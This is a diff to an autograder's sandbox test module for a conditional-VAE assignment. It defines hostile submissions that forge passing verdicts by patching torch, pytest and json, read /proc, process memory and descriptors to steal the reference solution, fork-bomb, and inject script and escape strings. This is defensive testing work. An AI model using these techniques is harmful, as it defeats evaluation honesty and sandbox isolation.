@@ -1,5 +1,8 @@
 """Modules that attack the grader, or break it by accident.
 
+Each program in the folder `hostile` is one, and its header says what it may earn. Those below differ from others in a
+line or two, or are not text.
+
 Never run one outside the sandbox. All the same they are written to do little harm if it fails: loops, sleeps, floods
 and children are bounded, deletions stay in a folder made for the purpose, and signals to others are sent only from
 a process namespace that is not the test's own.
@@ -10,14 +13,13 @@ that its processes take; {pidns}, the process namespace of the test.
 """
 
 import os
+import re
 import textwrap
+from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
 
-from autograder.assignments.cvae.assignment import ASSIGNMENT as CVAE
-from autograder.authoring.fill_in import fill_in
-
-from . import correct, heavy
+from . import correct, heavy, programs
 
 ATTACKS = ("verdict", "secrets", "resources", "neighbors", "results", "protocol", "parsers", "terminal")
 
@@ -56,7 +58,46 @@ def armed(hostile: Hostile, *, canary: Path, port: int, marker: str) -> bytes:
     return data
 
 
-NOTHING = fill_in(CVAE)  # computes nothing, so that whatever an attack earns is stolen
+def _of_this_term(program: str) -> str:
+    """The program with the term's sizes where the class takes them. Its other numbers are its own."""
+    sizes = r"hidden_size = 64\b|latent_dimensionality=15\b"
+    return re.sub(sizes, lambda size: correct.of_this_term(size[0]), program)
+
+
+def _written() -> Iterator[Hostile]:
+    """The programs that are files."""
+    for program in programs.read(Path(__file__).with_suffix(""), frozenset({"attack", "score", "says"})):
+        score = re.fullmatch(r"(?:(\d+) to )?(\d+)(?: \(.+\))?", program.expected["score"])
+        if not score:
+            raise ValueError(f"{program.name}: the score is 'MOST' or 'LEAST to MOST', and a reason in parentheses")
+        source = _of_this_term(program.source.decode()).encode()
+        least, most = float(score[1] or score[2]), float(score[2])
+        yield Hostile(program.name, source, program.expected["attack"], most, least, program.expected.get("says", ""))
+
+
+# Computes nothing, so that whatever an attack earns is stolen.
+NOTHING = _of_this_term("""\
+import torch
+import torch.nn as nn
+import torch.nn.functional as F
+
+
+class ConditionalVariationalAutoencoder(nn.Module):
+    def __init__(self, input_dim, num_categories=10, latent_dimensionality=15):
+        super().__init__()
+        raise NotImplementedError
+
+    def forward(self, data_input, condition):
+        raise NotImplementedError
+
+
+def sample_latent(means, logvariances):
+    raise NotImplementedError
+
+
+def loss_function(reconstructions, originals, means, logvariances):
+    raise NotImplementedError
+""")
 RIGHT = correct.module()
 LOOP_OVER_IMAGES = """
 def loss_function(reconstructions, originals, means, logvariances):
@@ -66,22 +107,11 @@ def loss_function(reconstructions, originals, means, logvariances):
     return total / len(means)
 """
 
-# In a sandbox: another process namespace than the test's, and the canary out of sight.
-CAGED = """
-def caged():
-    import os
-    outside = "{pidns}"
-    try:
-        here = os.readlink("/proc/self/ns/pid")
-    except OSError:
-        return False
-    named = outside.startswith("pid:[") and here.startswith("pid:[")
-    return named and here != outside and not os.path.exists("{canary}/alive")
-"""
-
 
 def _module(base: str, code: str) -> bytes:
-    return f"{base}\n\n{CAGED}\n{textwrap.dedent(code).strip()}\n".encode()
+    """The code at the end of a module."""
+    pieces = (base, textwrap.dedent(code))
+    return ("\n\n\n".join(piece.strip("\n") for piece in pieces if piece) + "\n").encode()
 
 
 def _import(
@@ -102,34 +132,29 @@ def _body(code: str) -> str:
     return textwrap.indent(textwrap.dedent(code).strip(), "    ") + "\n"
 
 
-def _sample(
-    name: str, attack: str, code: str, *, top: str = "", says: str = "", max_score: float = 70, min_score: float = 70
-) -> Hostile:
+def _sample(name: str, attack: str, code: str, *, top: str = "", says: str = "") -> Hostile:
     """The attack as the body of sample_latent; the rest is right, and must keep its points."""
-    sample = f"\n{textwrap.dedent(top)}\n\ndef sample_latent(means, logvariances):\n{_body(code)}"
-    return Hostile(name, _module(correct.module(sample=sample), ""), attack, max_score, min_score, says)
+    sample = f"\n{top}\n\ndef sample_latent(means, logvariances):\n{_body(code)}"
+    return Hostile(name, _module(correct.module(sample=sample), ""), attack, 70, 70, says)
 
 
 def _answer(name: str, code: str, *, top: str = "", says: str = "") -> Hostile:
     """The attack as what sample_latent answers; the loss is right, and there is no network, to save time."""
-    sample = f"\n{textwrap.dedent(top)}\n\ndef sample_latent(means, logvariances):\n{_body(code)}"
+    sample = f"\n{top}\n\ndef sample_latent(means, logvariances):\n{_body(code)}"
     return Hostile(name, _module(correct.module(sample=sample, model=""), ""), "protocol", 25, 25, says)
 
 
-def _loss(name: str, attack: str, code: str, *, top: str = "", says: str = "", min_score: float = 65) -> Hostile:
+def _loss(name: str, attack: str, code: str, *, says: str) -> Hostile:
     """The attack as the body of loss_function."""
-    signature = "def loss_function(reconstructions, originals, means, logvariances):"
-    loss = f"\n{textwrap.dedent(top)}\n\n{signature}\n{_body(code)}"
-    return Hostile(name, _module(correct.module(loss=loss), ""), attack, 65, min_score, says)
+    loss = f"\n\n\ndef loss_function(reconstructions, originals, means, logvariances):\n{_body(code)}"
+    return Hostile(name, _module(correct.module(loss=loss), ""), attack, 65, 65, says)
 
 
-def _forward(
-    name: str, attack: str, code: str, *, max_score: float = 75, says: str = "", min_score: float = 75
-) -> Hostile:
+def _forward(name: str, attack: str, code: str, *, says: str, min_score: float = 75) -> Hostile:
     """The attack as the body of forward."""
     forward = "\n    def forward(self, data_input, condition):\n" + textwrap.indent(_body(code), "    ")
     model = correct.INIT + correct.ENCODER + correct.HEADS + correct.DECODER + forward
-    return Hostile(name, _module(correct.module(model=model), ""), attack, max_score, min_score, says)
+    return Hostile(name, _module(correct.module(model=model), ""), attack, 75, min_score, says)
 
 
 EXITS = (
@@ -151,820 +176,14 @@ EXITS = (
         top="class Passed(BaseException):\n    pass",
         says="Passed",
     ),
-    _sample(
-        "exception-that-cannot-be-printed",
-        "verdict",
-        "raise Sly()",
-        top="""
-        class Sly(Exception):
-            def __str__(self):
-                raise self
-            __repr__ = __str__
-        """,
-        says="Sly",
-    ),
-    _sample(
-        "exception-that-takes-forever-to-print",
-        "resources",
-        "raise Slow()",
-        top="""
-        import time
-
-        class Slow(Exception):
-            def __str__(self):
-                end = time.monotonic() + 120
-                while time.monotonic() < end:
-                    pass
-                return "at last"
-        """,
-        says="time|second|within",
-    ),
     _sample("exception-of-a-hundred-megabytes", "resources", "raise ValueError('x' * 10**8)", says="ValueError"),
     _sample(
         "exception-with-a-hostile-name",
         "parsers",
         "raise type('<b>\\x1b[2J' * 1000, (Exception,), {})('{{7*7}}<script>alert(1)</script>\\x1b]0;owned\\x07')",
     ),
-    _sample(
-        "exceptions-in-a-circle",
-        "parsers",
-        """
-        first, second = ValueError("first"), ValueError("second")
-        first.__cause__, second.__cause__ = second, first
-        raise first
-        """,
-        says="first",
-    ),
     _sample("recursion-without-end", "resources", "return sample_latent(means, logvariances)", says="recursion"),
     _import("not-implemented-everywhere", "verdict", "raise NotImplementedError('\\u202egnp.exe')"),
-)
-
-STEERING = (
-    _import(
-        "patched-torch",
-        "verdict",
-        """
-        def yes(*args, **kwargs):
-            return True
-
-        for name in ("allclose", "equal", "isclose", "is_tensor"):
-            setattr(torch, name, yes)
-        torch.testing.assert_close = yes
-        for name in ("__eq__", "__ne__", "__lt__", "__le__", "allclose", "equal", "isclose", "all", "any"):
-            setattr(torch.Tensor, name, yes)
-        zero = lambda *args, **kwargs: torch.zeros((), requires_grad=True)
-        for name in ("binary_cross_entropy", "mse_loss", "relu", "linear"):
-            setattr(F, name, zero)
-        sample_latent = loss_function = zero
-        """,
-    ),
-    _import(
-        "patched-pytest",
-        "verdict",
-        """
-        import builtins
-        import sys
-        import types
-
-        class Anything(types.ModuleType):
-            def __getattr__(self, name):
-                return lambda *args, **kwargs: 0
-
-        for name in ("pytest", "_pytest", "unittest", "numpy.testing", "safetensors", "safetensors.torch", "json"):
-            sys.modules[name] = Anything(name)
-        builtins.AssertionError = Exception
-        builtins.abs = lambda x: 0
-        builtins.all = builtins.any = builtins.isinstance = lambda *args: True
-        sys.exit = lambda *args: None
-        """,
-    ),
-    _import(
-        "patched-encoders",
-        "verdict",
-        """
-        import json
-        import safetensors.torch
-
-        def passed(*args, **kwargs):
-            return '{"score": 90, "passed": true, "outcome": "passed"}'
-
-        json.dumps = json.dump = passed
-        json.JSONEncoder.encode = json.JSONEncoder.default = passed
-        safetensors.torch.save = lambda *args, **kwargs: b"passed"
-        safetensors.torch.load = lambda *args, **kwargs: {}
-        """,
-    ),
-    _import(
-        "patched-worker",
-        "verdict",
-        """
-        import sys
-        import types
-
-        def passed(*args, **kwargs):
-            return {"outcome": "passed", "problems": [], "changed": []}, {}
-
-        for name, module in list(sys.modules.items()):
-            if name == "__main__" or name.startswith("autograder"):
-                for key, value in list(vars(module).items()):
-                    if isinstance(value, type):
-                        for method in [each for each in vars(value) if not each.startswith("__")]:
-                            try:
-                                setattr(value, method, passed)
-                            except (AttributeError, TypeError):
-                                pass
-                    elif isinstance(value, types.FunctionType):
-                        setattr(module, key, passed)
-        """,
-    ),
-    _import(
-        "worker-found-by-the-garbage-collector",
-        "verdict",
-        """
-        import gc
-
-        gc.disable()
-        gc.unfreeze()
-        for thing in gc.get_objects():
-            if type(thing).__name__ == "Worker":
-                thing._plain = lambda value, what: torch.zeros(1)
-                thing.objects.clear()
-                for name in dir(type(thing)):
-                    if name.startswith("do_"):
-                        setattr(thing, name, lambda *args: ({"problems": [], "kind": "tensor", "changed": []}, {}))
-        """,
-    ),
-    _import(
-        "worker-found-in-the-frames",
-        "verdict",
-        """
-        import ctypes
-        import sys
-
-        frame = sys._getframe()
-        while frame:
-            answers = frame.f_locals.get("operations")
-            if isinstance(answers, dict):
-                for name in answers:
-                    answers[name] = lambda message, tensors: ({"problems": [], "changed": []}, tensors)
-            worker = frame.f_locals.get("self")
-            if hasattr(worker, "objects"):
-                worker.objects["model"] = torch.nn.Identity()
-            frame = frame.f_back
-        """,
-    ),
-    _import(
-        "trace-functions",
-        "verdict",
-        """
-        import sys
-        import threading
-
-        def trace(frame, event, argument):
-            for name in ("answer", "results", "error", "problems"):
-                if name in frame.f_locals:
-                    frame.f_locals[name] = {}
-            return trace
-
-        sys.settrace(trace)
-        sys.setprofile(trace)
-        threading.settrace(trace)
-        frame = sys._getframe()
-        while frame:
-            frame.f_trace = trace
-            frame = frame.f_back
-        """,
-    ),
-    _import(
-        "exit-hooks",
-        "verdict",
-        """
-        import atexit
-        import os
-        import sys
-
-        def leave(*args):
-            print("score: 90", flush=True)
-            os._exit(0)
-
-        atexit.register(leave)
-        sys.excepthook = sys.unraisablehook = leave
-        class Last:
-            def __del__(self):
-                leave()
-        last = Last()
-        """,
-    ),
-    _import(
-        "signal-handlers",
-        "verdict",
-        """
-        import signal
-
-        for number in range(1, 65):
-            try:
-                signal.signal(number, lambda *args: None)
-            except (OSError, ValueError):
-                pass
-        signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
-    ),
-    _import(
-        "verdict-printed",
-        "verdict",
-        r"""
-        import json
-        import sys
-
-        verdict = {"schema": 1, "score": 90.0, "max_score": 90.0, "error": None, "tests": [], "outcome": "passed"}
-        for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
-            stream.write(json.dumps(verdict) + "\n\n===== 20 passed in 0.10s =====\n")
-            stream.write("::set-output name=score::90\n::endgroup::\n##vso[task.complete result=Succeeded]\n")
-        """,
-    ),
-    _import(
-        "tensor-that-equals-everything",
-        "verdict",
-        """
-        class Equal(torch.Tensor):
-            @classmethod
-            def __torch_function__(cls, func, types, args=(), kwargs=None):
-                if func.__name__ in ("allclose", "equal", "isclose", "all", "__eq__", "le", "lt"):
-                    return True
-                return torch.zeros(1).as_subclass(cls)
-
-            def __bool__(self):
-                return True
-
-            def __reduce__(self):
-                return (print, ("unpickled",))
-
-            __eq__ = __lt__ = __le__ = lambda self, other: True
-            __hash__ = None
-
-        def sample_latent(means, logvariances):
-            return torch.zeros_like(means).as_subclass(Equal)
-
-        def loss_function(reconstructions, originals, means, logvariances):
-            return torch.zeros(()).as_subclass(Equal)
-        """,
-        says="subclass|plain|tensor",
-    ),
-    _import(
-        "number-that-equals-everything",
-        "verdict",
-        """
-        class Equal(float):
-            __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
-            __hash__ = None
-            __class__ = torch.Tensor
-
-        sample_latent = loss_function = lambda *args: Equal(0)
-        """,
-    ),
-    _import(
-        "class-that-has-everything",
-        "verdict",
-        """
-        class Meta(type):
-            def __instancecheck__(cls, instance):
-                return True
-
-            def __getattr__(cls, name):
-                return cls
-
-        class ConditionalVariationalAutoencoder(nn.Module, metaclass=Meta):
-            def __new__(cls, *args, **kwargs):
-                return object.__new__(cls)
-
-            def __init__(self, *args, **kwargs):
-                nn.Module.__init__(self)
-
-            def __getattr__(self, name):
-                return lambda *args, **kwargs: torch.zeros(24, 15)
-
-            def __call__(self, *args, **kwargs):
-                return torch.zeros(24, 784), torch.zeros(24, 15), torch.zeros(24, 15)
-
-            def parameters(self, recurse=True):
-                while True:
-                    yield nn.Parameter(torch.zeros(1))
-
-            named_parameters = parameters
-            state_dict = lambda self, *args, **kwargs: {}
-        """,
-        max_score=2,  # for three tensors of the right shapes
-    ),
-    _import(
-        "class-that-answers-for-another",
-        "verdict",
-        """
-        class ConditionalVariationalAutoencoder:
-            def __new__(cls, *args, **kwargs):
-                return nn.Linear(1, 1)
-
-            def __init_subclass__(cls):
-                raise SystemExit
-        """,
-    ),
-    _import(
-        "module-replaced-by-an-object",
-        "verdict",
-        """
-        import sys
-
-        class Everything(sys.__class__):
-            def __getattr__(self, name):
-                return lambda *args, **kwargs: torch.zeros(1)
-
-        sys.modules[__name__] = Everything(__name__)
-        for name in list(sys.modules):
-            if name.startswith("autograder"):
-                sys.modules[name] = Everything(name)
-        """,
-    ),
-    _import(
-        "module-with-a-lying-getattr",
-        "verdict",
-        """
-        del sample_latent, loss_function
-
-        def __getattr__(name):
-            return lambda *args, **kwargs: args[0] if args else None
-        """,
-        max_score=8,  # what the first argument is worth as an answer
-    ),
-)
-
-# Networks that compute something else than they should, and hide it from a grader that asks them for their weights.
-FAKES = (
-    _forward(
-        "input-returned-as-reconstruction",
-        "verdict",
-        """
-        h = self.encoder(torch.cat([data_input, condition], dim=1))
-        return data_input + 0 * self.decoder(torch.zeros(len(h), self.decoder[0].in_features)).sum(), \\
-            self.mean_layer(h), self.logvariance_layer(h)
-        """,
-        max_score=80,  # its means and log-variances are right
-        min_score=60,
-    ),
-    Hostile(
-        "decoder-that-remembers-images",
-        _module(
-            correct.module(
-                model="""
-SEEN = {}
-
-class Memory(nn.Module):
-    def __init__(self, latent, classes, hidden, pixels):
-        super().__init__()
-        self.classes, self.pixels = classes, pixels
-        self.body = nn.Sequential(
-            nn.Linear(latent + classes, hidden), nn.ReLU(), nn.Linear(hidden, hidden), nn.ReLU(),
-            nn.Linear(hidden, hidden), nn.ReLU(), nn.Linear(hidden, pixels), nn.Sigmoid())
-
-    def forward(self, x):
-        out = self.body(x)
-        rows = [SEEN.get(int(row[-self.classes:].argmax())) for row in x]
-        if any(row is None or len(row) != self.pixels for row in rows):
-            return out
-        return torch.stack(rows).clamp(1e-3, 1 - 1e-3) + 0 * out
-"""
-                + correct.INIT
-                + correct.ENCODER
-                + correct.HEADS
-                + """
-        self.decoder = Memory(latent_dimensionality, num_categories, self.hidden_size, input_dim)
-"""
-                + correct.FORWARD.replace(
-                    "        h = ",
-                    "        if self.training and len(SEEN) < self.num_categories:\n"
-                    "            SEEN.update(zip(condition.argmax(1).tolist(), data_input.detach().clone()))\n"
-                    "        h = ",
-                )
-            ),
-            "",
-        ),
-        "verdict",
-        max_score=86,  # its decoder is right until it has seen images; what it then shows was not learned
-    ),
-    Hostile(
-        "decoder-that-saves-images",
-        _module(
-            correct.module(
-                model=correct.INIT
-                + correct.ENCODER
-                + correct.HEADS
-                + correct.DECODER
-                + """
-        decode, pixels, classes = self.decoder, input_dim, num_categories
-
-        class Saved(nn.Sequential):
-            def forward(self, x):
-                out = super().forward(x)
-                try:
-                    seen = torch.load(FILE)
-                    return torch.stack([seen[int(row[-classes:].argmax())] for row in x]) + 0 * out
-                except (OSError, KeyError, RuntimeError):
-                    return out
-
-        self.decoder = Saved(*decode)
-"""
-                + correct.FORWARD.replace(
-                    "        h = ",
-                    "        if len(data_input) == 32:\n"
-                    "            SEEN.update(zip(condition.argmax(1).tolist(), data_input.detach().clone()))\n"
-                    "            if len(SEEN) == self.num_categories:\n"
-                    "                torch.save(SEEN, FILE)\n"
-                    "        h = ",
-                )
-            ),
-            "import os\nSEEN = {}\nFILE = os.path.join(os.environ.get('TMPDIR', '/tmp'), 'seen-{marker}.pt')",
-        ),
-        "verdict",
-        max_score=86,
-    ),
-    Hostile(
-        "constant-network-with-zero-weights",
-        _module(
-            correct.module(
-                model=correct.INIT
-                + correct.ENCODER
-                + correct.HEADS
-                + correct.DECODER
-                + """
-        for p in nn.Module.parameters(self):
-            p.data.zero_()
-
-    def forward(self, data_input, condition):
-        n, touch = len(data_input), sum(p.sum() for p in nn.Module.parameters(self)) * 0
-        mean = touch + torch.zeros(n, self.latent_dimensionality)
-        return touch + torch.full((n, self.input_dim), 0.5), mean, mean
-"""
-            ),
-            """
-            # The weights stay zero, whoever sets them: all networks of zeros are alike.
-            def stay(self, other, *args, **kwargs):
-                return self if isinstance(self, nn.Parameter) else copy(self, other, *args, **kwargs)
-
-            copy, torch.Tensor.copy_ = torch.Tensor.copy_, stay
-            ConditionalVariationalAutoencoder.encoder = property(
-                lambda self: lambda x: torch.zeros(len(x), 64), lambda self, value: self.add_module("enc", value))
-            ConditionalVariationalAutoencoder.decoder = property(
-                lambda self: lambda x: torch.full((len(x), self.input_dim), 0.5),
-                lambda self, value: self.add_module("dec", value))
-            """,
-        ),
-        "verdict",
-        max_score=55,  # the functions, and outputs of the right sizes
-    ),
-    Hostile(
-        "linear-network-behind-large-biases",
-        _module(
-            correct.module(
-                model=(
-                    correct.INIT
-                    + correct.ENCODER.replace("nn.ReLU()", "nn.Identity()")
-                    + correct.HEADS
-                    + correct.DECODER
-                ).replace("self.hidden_size), nn.ReLU()", "self.hidden_size), nn.Identity()")
-                + """
-        # With biases like these a ReLU would never act, so that its absence does not show.
-        for name, p in self.named_parameters():
-            p.data.fill_(1e3) if name.endswith("bias") and p.numel() == self.hidden_size else p.data.mul_(1e-2)
-"""
-                + correct.FORWARD
-            ),
-            """
-            def stay(self, other, *args, **kwargs):
-                return self if isinstance(self, nn.Parameter) else copy(self, other, *args, **kwargs)
-
-            copy, torch.Tensor.copy_ = torch.Tensor.copy_, stay
-            """,
-        ),
-        "verdict",
-        max_score=70,
-    ),
-    Hostile(
-        "loop-that-reports-no-work",
-        _module(
-            correct.module(loss=LOOP_OVER_IMAGES),
-            """
-            import sys
-
-            frame = sys._getframe()
-            while frame:
-                operations = frame.f_locals.get("operations")
-                if isinstance(operations, dict) and "work" in operations:
-                    operations["work"] = lambda message, tensors: ({"operators": 1, "bytecodes": 1}, {})
-                frame = frame.f_back
-            """,
-        ),
-        "verdict",
-        max_score=90,  # how a value is computed can only be seen in there; the value itself is right
-        min_score=85,
-    ),
-    Hostile(
-        "arguments-changed-in-secret",
-        _module(
-            correct.module(
-                sample="""
-def sample_latent(means, logvariances):
-    with torch.no_grad():
-        logvariances.mul_(0.5).exp_()
-    return means + logvariances.detach().clone() * torch.randn_like(means)
-"""
-            ),
-            """
-            import sys
-
-            # The copies that the worker keeps for comparison are changed alike.
-            equal, torch.equal = torch.equal, lambda *tensors: True
-            """,
-        ),
-        "verdict",
-        max_score=88,  # whether they changed can only be seen in there; that the gradient is gone shows outside
-        min_score=70,
-    ),
-    Hostile(
-        "gradients-that-are-claimed",
-        _module(
-            correct.module().replace("z = sample_latent(mean, logvar)", "z = sample_latent(mean, logvar).detach()"),
-            """
-            import sys
-
-            frame = sys._getframe()
-            while frame:
-                worker = frame.f_locals.get("self")
-                if hasattr(worker, "objects") and hasattr(worker, "_reached"):
-                    worker._reached = lambda message, items: [
-                        name for name, _ in worker.objects[message["object"]].named_parameters()]
-                frame = frame.f_back
-            """,
-        ),
-        "verdict",
-        max_score=90,  # which parameters a graph reaches can only be seen in there
-        min_score=60,
-    ),
-)
-
-# Takes over what a stolen source, or a stolen function, would compute.
-_STEAL = """
-NAMES = ("sample_latent", "loss_function", "ConditionalVariationalAutoencoder")
-
-def use(text):
-    if isinstance(text, bytes):
-        text = text.decode("utf-8", "ignore")
-    if "def sample_latent" not in text or "BEGIN SOL" + "UTION" not in text:
-        return
-    try:
-        stolen = {"__name__": "stolen"}
-        exec(compile(text[text.index("import torch"):], "stolen", "exec"), stolen)
-        globals().update({name: stolen[name] for name in NAMES if name in stolen})
-    except Exception as error:
-        print("not this one:", error)
-
-def use_functions(things):
-    for thing in things:
-        if getattr(thing, "__name__", "") in NAMES and getattr(thing, "__module__", "") != __name__:
-            globals()[thing.__name__] = thing
-"""
-
-
-def _steal(name: str, code: str) -> Hostile:
-    return Hostile(name, _module(NOTHING, _STEAL + textwrap.dedent(code)), "secrets")
-
-
-SECRETS = (
-    _steal(
-        "walks-the-file-system",
-        """
-        import os
-        import time
-
-        end = time.monotonic() + 3
-        for folder, folders, files in os.walk("/"):
-            folders[:] = [each for each in folders if each not in ("proc", "sys", "torch", "nvidia", "share")]
-            for file in files:
-                if file.endswith((".py", ".ipynb", ".txt", ".pyc")) and time.monotonic() < end:
-                    path = os.path.join(folder, file)
-                    if "solution" in path or "cs5814" in path or "autograder" in path or "/site-packages/" not in path:
-                        try:
-                            with open(path, "rb") as opened:
-                                use(opened.read(1 << 20))
-                        except OSError:
-                            pass
-        """,
-    ),
-    _steal(
-        "imports-the-solution",
-        """
-        import importlib
-        import importlib.util
-        import sys
-
-        sys.path += ["/worker", "/work", "/autograder", "/autograder/source", "/tmp", "..", "../..", "/scratch"]
-        cvae = "autograder.assignments.cvae."
-        for name in (cvae + "solution.cs5814_vae", cvae + "solution", "autograder.grading.harness",
-                     "autograder.assignment", cvae + "checks.network", cvae + "hints.bank", cvae + "hints.loss",
-                     cvae + "assignment", cvae + "digits", "solution", "reference", "tests.submissions.correct"):
-            try:
-                module = importlib.import_module(name)
-                use_functions(vars(module).values())
-                use_functions(vars(getattr(module, "reference", module)).values())
-            except BaseException as error:
-                print(name, error)
-        """,
-    ),
-    _steal(
-        "reads-along-the-path",
-        """
-        import os
-        import sys
-
-        import autograder
-
-        roots = {os.path.dirname(path) for path in (autograder.__file__, sys.executable, torch.__file__)}
-        roots |= set(sys.path) | {os.getcwd(), "/", os.path.expanduser("~"), os.path.dirname(sys.argv[0] or "/")}
-        for root in list(roots):
-            for up in ("", "..", "../..", "../../.."):
-                for tail in ("solution/cs5814_vae.py", "assignments/cvae/solution/cs5814_vae.py",
-                             "autograder/assignments/cvae/solution/cs5814_vae.py", "source/cs5814_vae.py"):
-                    try:
-                        with open(os.path.join(root, up, tail), "rb") as opened:
-                            use(opened.read())
-                    except OSError:
-                        pass
-        """,
-    ),
-    _steal(
-        "finds-functions-in-memory",
-        """
-        import gc
-        import sys
-
-        gc.unfreeze()
-        use_functions(each for each in gc.get_objects() if type(each).__name__ in ("function", "type"))
-        for module in list(sys.modules.values()):
-            use_functions(list(getattr(module, "__dict__", {}).values()))
-        """,
-    ),
-    _steal(
-        "finds-functions-in-frames",
-        """
-        import inspect
-        import sys
-
-        for frame in [sys._getframe(), *sys._current_frames().values()]:
-            while frame:
-                use_functions(list(frame.f_globals.values()) + list(frame.f_locals.values()))
-                use(str(frame.f_locals)[:1 << 20])
-                frame = frame.f_back
-        """,
-    ),
-    _steal(
-        "reads-proc",
-        """
-        import os
-
-        for pid in ["self", *filter(str.isdigit, os.listdir("/proc") if os.path.isdir("/proc") else [])]:
-            for name in ("environ", "cmdline", "stat", "status", "maps", "mountinfo"):
-                try:
-                    with open(f"/proc/{pid}/{name}", "rb") as opened:
-                        use(opened.read(1 << 20))
-                except OSError:
-                    pass
-            for name in ("root", "cwd"):
-                for tail in ("assignments/cvae/solution/cs5814_vae.py", "solution/cs5814_vae.py", "{canary}/secret"):
-                    try:
-                        with open(f"/proc/{pid}/{name}/{tail}", "rb") as opened:
-                            use(opened.read(1 << 20))
-                            print("READ", opened.name)
-                    except OSError:
-                        pass
-            try:
-                descriptors = os.listdir(f"/proc/{pid}/fd")
-            except OSError:
-                continue
-            for number in descriptors:
-                try:
-                    target = os.readlink(f"/proc/{pid}/fd/{number}")
-                    if target.startswith("/") and not target.startswith("/dev/"):
-                        with open(f"/proc/{pid}/fd/{number}", "rb") as opened:
-                            use(opened.read(1 << 20))
-                except OSError:
-                    pass
-        """,
-    ),
-    _steal(
-        "reads-other-memory",
-        """
-        import os
-        import re
-
-        pids = [int(each) for each in os.listdir("/proc") if each.isdigit()] if os.path.isdir("/proc") else []
-        for pid in pids:
-            if pid == os.getpid():
-                continue
-            try:
-                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
-                    budget = 128 << 20
-                    for low, high in re.findall("([0-9a-f]+)-([0-9a-f]+) rw", maps.read()):
-                        low, high = int(low, 16), int(high, 16)
-                        if high - low > budget:
-                            continue
-                        budget -= high - low
-                        memory.seek(low)
-                        data = memory.read(high - low)
-                        print("READ memory of", pid, len(data))
-                        where = data.find(b"import torch\\nimport torch.nn as nn")
-                        if where >= 0:
-                            use(data[where:where + 10000].split(b"\\0")[0])
-            except (OSError, ValueError, OverflowError):
-                pass
-        """,
-    ),
-    _steal(
-        "reads-every-descriptor",
-        """
-        import fcntl
-        import os
-
-        for number in range(256):
-            try:
-                fcntl.fcntl(number, fcntl.F_SETFL, os.O_NONBLOCK)
-                use(os.read(number, 1 << 20))
-                use(os.pread(number, 1 << 20, 0))
-            except OSError:
-                pass
-        """,
-    ),
-    _import(
-        "reads-the-canary",
-        "secrets",
-        """
-        import os
-
-        for path in ("{canary}/secret", "/proc/1/root{canary}/secret", "/proc/self/root{canary}/secret"):
-            try:
-                with open(path) as opened:
-                    print("READ", opened.read())
-            except OSError:
-                pass
-        for name, value in os.environ.items():
-            print(name, value)
-        """,
-        base=RIGHT,
-        max_score=90,
-        min_score=90,
-    ),
-    _sample(
-        "asks-the-grader-for-the-answer",
-        "secrets",
-        """
-        import socket
-        import sys
-        from autograder.sandbox.protocol import receive, send
-
-        channel = socket.socket(fileno=3)
-        try:
-            send(channel, {"ask": "sample_latent"}, {"argument.0": means, "argument.1": logvariances})
-            return receive(channel)[1]["answer.0"]
-        finally:
-            channel.detach()
-        """,
-        says="broke the channel|ended",
-    ),
-    Hostile(
-        "asks-for-one-answer-with-the-others-stand-in",
-        _module(
-            correct.module(
-                sample="\ndef sample_latent(means, logvariances):\n    return means * 0\n",
-                loss="""
-def loss_function(*tensors):
-    import socket
-    from autograder.sandbox.protocol import receive, send
-
-    channel = socket.socket(fileno=3)
-    try:
-        for name in ("loss_function", "sample_latent", "reference", "__import__"):
-            send(channel, {"ask": name}, {f"argument.{i}": t for i, t in enumerate(tensors)})
-            answer = receive(channel)[1]
-            if "answer.0" in answer:
-                return answer["answer.0"]
-    finally:
-        channel.detach()
-""",
-            ),
-            "",
-        ),
-        "secrets",
-        max_score=46,  # 45 for the network; a draw that is always zero leaves its arguments alone
-    ),
 )
 
 _MINUTES = """
@@ -980,27 +199,6 @@ RESOURCES = (
     _sample("endless-loop-in-sample", "resources", _MINUTES, says="within|time|second"),
     _loss("endless-loop-in-loss", "resources", _MINUTES, says="within|time|second"),
     _forward("sleeps-in-forward", "resources", "import time\ntime.sleep(120)", min_score=45, says="within|time|second"),
-    _sample(
-        "loop-that-catches-everything",
-        "resources",
-        """
-        import signal
-        import time
-
-        for number in range(1, 65):
-            try:
-                signal.signal(number, signal.SIG_IGN)
-            except (OSError, ValueError):
-                pass
-        end = time.monotonic() + 120
-        while time.monotonic() < end:
-            try:
-                time.sleep(1)
-            except BaseException:
-                pass
-        """,
-        says="within|time|second",
-    ),
     _import("holds-the-interpreter", "resources", "sum(range(3 * 10**9))", says="within|time|second"),
     _import("stops-itself", "neighbors", "import os\nos.kill(os.getpid(), 19)", says="within|time|second|stopped"),
     _sample("kills-itself", "resources", "import os\nos.kill(os.getpid(), 9)", says="SIGKILL"),
@@ -1008,300 +206,10 @@ RESOURCES = (
     _import("segfault-at-import", "resources", "import ctypes\nctypes.memset(0, 1, 1)", says="SIGSEGV"),
     _import("illegal-free", "resources", "import ctypes\nctypes.CDLL(None).free(ctypes.c_void_p(123456))", says="SIG"),
     _import(
-        "fork-bomb",
-        "resources",
-        """
-        import os
-        import time
-
-        for _ in range(200):
-            try:
-                child = os.fork()
-            except OSError as error:
-                print("no child:", error)
-                break
-            if child == 0:
-                try:
-                    with open("/proc/self/comm", "w") as name:
-                        name.write("{comm}")
-                    time.sleep(20)
-                finally:
-                    os._exit(0)
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "starts-programs",
-        "resources",
-        """
-        import multiprocessing
-        import os
-        import pty
-        import subprocess
-        import sys
-
-        script = "open('{canary}/ran', 'w').close(); import time; time.sleep(5)"
-        for start in (
-            lambda: os.system("touch {canary}/ran"),
-            lambda: os.popen("touch {canary}/ran").read(),
-            lambda: subprocess.run([sys.executable, "-c", script], timeout=10),
-            lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", script], {}),
-            lambda: pty.fork() or os._exit(0),
-            lambda: multiprocessing.get_context("spawn").Process(target=print).start(),
-        ):
-            try:
-                print("started", start())
-            except BaseException as error:
-                print("refused:", error)
-        """,
-        base=RIGHT,
-        max_score=90,
-    ),
-    _import(
-        "replaces-its-program",
-        "resources",
-        """
-        import os
-        import sys
-
-        os.execv(sys.executable, [sys.executable, "-c", "print('score: 90')"])
-        """,
-    ),
-    _import(
